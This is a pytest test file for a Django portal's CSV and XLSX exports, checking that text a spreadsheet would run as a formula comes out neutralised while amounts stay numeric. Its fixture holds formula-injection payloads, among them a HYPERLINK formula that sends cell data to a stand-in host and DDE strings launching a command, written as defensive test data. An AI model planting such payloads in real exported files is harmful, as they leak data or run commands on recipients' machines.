"""Each export (applications and expenses, CSV and XLSX), read back: text that a spreadsheet would
run as a formula comes out neutralised (CSV: a leading apostrophe; XLSX: a string cell with the
quote-prefix style, its text unchanged), amounts stay numbers, control characters do not break it."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from portal.spreadsheets import FORMULA_STARTS
from tests.portal.factories import OwnerFactory
from tests.regions.factories import EnrolmentFactory, ProgrammeFactory, book

pytestmark = pytest.mark.django_db

HOSTILE = {
    "programme": '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "company": "+cmd|' /C calc'!A0",
    "label": "-2+3+cmd|' /C calc'!A0",
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile_rows(region):
    programme = ProgrammeFactory(region=region, name=HOSTILE["programme"], cap_per_company=Decimal("20000"))
    company = OwnerFactory(company__region=region, company__name=HOSTILE["company"]).company
    enrolment = EnrolmentFactory(programme=programme, company=company, status="in_progress", committed=Decimal("9000"))
    book(enrolment, Decimal("1234.50"), label=HOSTILE["label"], source_reference=HOSTILE["source"])
    book(enrolment, Decimal("10"), label="=1+1\x01\x0bx")
    return enrolment


@pytest.fixture
def region():
    from portal.models import Region

    return Region.objects.get(code="53")


def csv_rows(client, kind):
    response = client.get(reverse("regions:export", args=[kind, "csv"]))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")), delimiter=";"))


def xlsx_cells(client, kind):
    response = client.get(reverse("regions:export", args=[kind, "xlsx"]))
    assert response.status_code == 200
    return list(load_workbook(io.BytesIO(response.content)).active.iter_rows())


def assert_no_formula(rows):
    for row in rows:
        for value in row:
            if isinstance(value, str):
                assert not value.startswith(FORMULA_STARTS), value


def assert_xlsx_texts_are_strings_quote_prefixed_when_they_look_like_formulas(rows):
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert cell.quotePrefix == cell.value.startswith(FORMULA_STARTS), cell.value


def test_applications_csv_neutralises_hostile_text(client, officer, hostile_rows):
    client.force_login(officer)
    header, row = csv_rows(client, "candidatures")
    assert row[1] == "'" + HOSTILE["programme"]
    assert row[3] == "'" + HOSTILE["company"]
    assert row[10] == "9000,00"  # an amount, unquoted, with the French decimal comma
    assert_no_formula([header, row])


def test_applications_xlsx_neutralises_hostile_text_and_keeps_amounts_numbers(client, officer, hostile_rows):
    client.force_login(officer)
    cells = xlsx_cells(client, "candidatures")
    header, row = [[cell.value for cell in line] for line in cells]
    assert row[1] == HOSTILE["programme"]
    assert row[3] == HOSTILE["company"]
    assert cells[1][1].quotePrefix and cells[1][3].quotePrefix
    assert isinstance(row[10], (int, float)) and row[10] == 9000
    assert_xlsx_texts_are_strings_quote_prefixed_when_they_look_like_formulas(cells)


def test_expenses_csv_neutralises_hostile_text(client, officer, hostile_rows):
    client.force_login(officer)
    header, *rows = csv_rows(client, "depenses")
    labels = {row[5] for row in rows}
    assert "'" + HOSTILE["label"] in labels
    assert "'=1+1\x01\x0bx" in labels
    assert "'" + HOSTILE["source"] in {row[9] for row in rows}
    assert sorted(row[7] for row in rows) == ["10,00", "1234,50"]
    assert_no_formula([header, *rows])


def test_expenses_xlsx_neutralises_hostile_text_and_survives_control_characters(client, officer, hostile_rows):
    client.force_login(officer)
    cells = xlsx_cells(client, "depenses")
    _header, *rows = [[cell.value for cell in line] for line in cells]
    labels = {row[5] for row in rows}
    assert HOSTILE["label"] in labels
    assert "=1+1\ufffd\ufffdx" in labels
    assert HOSTILE["source"] in {row[9] for row in rows}
    assert sorted(row[7] for row in rows) == [10, 1234.5]
    assert all(isinstance(row[7], (int, float)) for row in rows)
    assert_xlsx_texts_are_strings_quote_prefixed_when_they_look_like_formulas(cells)
